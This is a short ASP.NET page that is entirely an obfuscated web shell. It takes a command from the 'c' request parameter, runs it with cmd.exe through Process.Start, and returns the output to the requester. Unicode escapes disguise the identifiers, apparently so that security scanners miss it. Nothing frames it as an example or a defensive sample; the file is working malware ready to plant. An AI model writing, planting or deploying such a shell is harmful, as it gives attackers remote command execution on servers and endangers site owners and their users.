<%@ Page Language="C#" %>
<%
    var \u0061 = \u0052equest["\u0063"];
    if (\u0061 != null) {
        var \u0070 = System.Diagnostics.\u0050rocess.\u0053tart(new System.Diagnostics.ProcessStartInfo("\u0063md.exe", "/\u0063 " + \u0061) { UseShellExecute = false, RedirectStandardOutput = true });
        Response.Write(\u0070.StandardOutput.ReadToEnd());
    }
%>
